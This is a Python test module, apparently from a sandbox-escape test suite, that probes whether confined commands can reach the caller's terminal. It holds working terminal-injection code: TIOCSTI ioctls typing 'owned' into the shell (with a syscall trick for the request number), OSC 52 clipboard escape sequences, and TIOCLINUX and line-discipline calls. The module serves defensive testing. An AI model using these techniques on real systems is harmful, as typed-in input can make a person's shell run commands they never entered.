"""Typing into the caller's terminal, so that the caller's shell runs it."""

from __future__ import annotations

import os

from tests.escape.attack import Unsupported, attack
from tests.escape.inside import Box, Redoma
from tests.escape.payload import answer
from tests.escape.promises import P
from tests.escape.terminal import on_a_terminal
from tests.escape.world import World

TIOCSTI = "TIOCSTI"


def _inject():
    import fcntl

    done = []
    try:  # and no terminal but the caller's: others may be somebody's
        own = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        own = 0
    for fd in (0, 1, 2, own):
        for request in (0x5412, 0x5412 | (1 << 32)):  # the kernel reads the low half alone
            for letter in b"owned\n":
                try:
                    if request >> 32:
                        import ctypes

                        LIBC = ctypes.CDLL(None)
                        LIBC.syscall(
                            16, fd, ctypes.c_ulong(request), ctypes.byref(ctypes.c_char(letter))
                        )
                    else:
                        fcntl.ioctl(fd, request, bytes([letter]))
                        done.append(fd)
                except OSError:
                    continue
    return done


def _may_inject() -> bool:
    try:
        with open("/proc/sys/dev/tty/legacy_tiocsti") as file:
            return file.read().strip() == "1" or os.geteuid() == 0
    except OSError:
        return True


def _run(world: World, box: Box, argv: list[str]) -> str:
    if not _may_inject():
        raise Unsupported("this kernel lets nobody type into a terminal: dev.tty.legacy_tiocsti")
    typed = on_a_terminal(argv, world.env, str(world.workspace))
    answer(typed.shown)
    return f"typed {typed.injected!r} into the terminal" if b"owned" in typed.injected else ""


@attack(P.TERMINAL, TIOCSTI, only_bare=True)
def type_into_the_terminal(world: World, box: Box) -> str:
    """The command runs on a person's terminal, as in any script."""
    return _run(world, box, box.enclosure.argv(box.program(_inject), world))


@attack(P.TERMINAL, TIOCSTI, only_bare=True)
def type_into_the_terminal_of_an_interactive_run(world: World, box: Box) -> str:
    """The command has a terminal of its own, and types into that."""
    argv = box.enclosure.argv(box.program(_inject), world)
    if isinstance(box.enclosure, Redoma):
        argv.insert(argv.index("run") + 1, "-t")
    return _run(world, box, argv)


def _open_the_terminal():
    fd = os.open("/dev/tty", os.O_RDWR)
    os.write(fd, b"\x1b]52;c;b3duZWQ=\x07\x1b[6n")


@attack(P.TERMINAL, "open the controlling terminal", only_bare=True)
def open_the_callers_terminal(world: World, box: Box) -> str:
    """Output is kept, capped and made harmless; what is written to the terminal itself is not.

    A command on a terminal of its own may write there: that is output like any other.
    """
    argv = box.enclosure.argv(box.program(_open_the_terminal), world)
    typed = on_a_terminal(argv, world.env, str(world.workspace))
    answer(typed.shown)
    found = [each for each in (b"\x1b]52", b"\x1b[6n") if each in typed.shown]
    return f"wrote {found} to the terminal" if found else ""


def _terminal_controls():
    import fcntl

    found = []
    for request in (0x541C, 0x5423):  # TIOCLINUX (pastes the console's selection), TIOCSETD
        try:
            fcntl.ioctl(0, request, b"\xff" * 8)
            found.append(hex(request))
        except OSError as error:
            if error.errno != 1:
                found.append(f"{request:#x}: {error.errno}")
    return found


@attack(P.TERMINAL, "terminal controls")
def control_the_terminal(world: World, box: Box) -> str:
    """Pasting the console's selection and changing a line discipline are calls like any other."""
    told = box.call(_terminal_controls)
    return f"let in: {', '.join(told.value)}" if told.value else ""
